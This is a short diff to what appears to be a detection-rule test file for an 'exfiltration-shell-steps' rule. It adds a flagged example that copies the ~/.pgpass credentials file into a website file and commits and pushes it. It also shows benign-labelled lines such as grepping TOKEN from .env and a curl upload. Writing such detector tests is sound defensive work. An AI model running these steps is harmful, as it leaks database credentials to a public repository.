@@ -43,3 +43,8 @@ curl -T /tmp/plain.txt https://checks.sample.net/in
 # ok: exfiltration-shell-steps
 grep TOKEN .env
 curl https://docs.sample.net/start
+
+# ruleid: exfiltration-shell-steps
+cp ~/.pgpass ./site/about.txt
+cd site && git add about.txt && git commit -m about
+git push
